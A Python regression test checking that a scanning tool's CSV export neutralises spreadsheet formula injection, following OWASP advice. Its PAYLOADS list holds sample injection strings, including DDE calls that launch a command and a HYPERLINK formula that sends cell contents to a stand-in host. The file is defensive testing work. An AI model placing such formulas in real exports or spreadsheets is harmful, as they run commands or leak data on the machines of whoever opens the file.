"""Issue 10 item 11: CSV output never hands a spreadsheet a formula from evidence.

Message ids (and every other cell) come from evidence; before the fix a cell starting with
`=`, `+`, `-`, `@`, a tab or a carriage return went straight into the CSV, where Excel or
LibreOffice would run it. OWASP's advice: prefix such cells with `'` and quote every cell.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hostile_cli import assert_clean, scan
from hypothesis import given
from hypothesis import strategies as st

from saferpractice.scan.output import FORMULA_STARTS, neutralise

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def test_payloads_in_every_cell_position_are_neutralised(tmp_path: Path, school: Path) -> None:
    evidence = tmp_path / "evidence"
    evidence.mkdir()
    rows = ["id,channel,sent_at,from,to,body"]
    for number, payload in enumerate(PAYLOADS):
        quoted = '"' + payload.replace('"', '""') + '"'
        rows.append(
            f"{quoted},sms,2026-11-{10 + number}T10:15:00+00:00,07700 900456,07700 900789,{quoted}"
        )
    (evidence / "texts.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    result = scan(school, evidence, out=out)
    assert_clean(result)
    raw = out.read_text(encoding="utf-8")
    table = list(csv.reader(io.StringIO(raw, newline="")))
    refs = [row[10] for row in table[1:] if row[1] == "phone.personal-device"]
    assert len(refs) == len(PAYLOADS)
    for row in table[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    assert "'=cmd|' /C calc'!A0" in refs
    assert raw.startswith('"id","rule",')  # every cell quoted


@given(st.text())
def test_no_neutralised_cell_starts_a_formula(cell: str) -> None:
    safe = neutralise(cell)
    assert not safe.startswith(FORMULA_STARTS)
    if cell.isprintable() and not cell.startswith(FORMULA_STARTS):
        assert safe == cell  # ordinary text is left alone
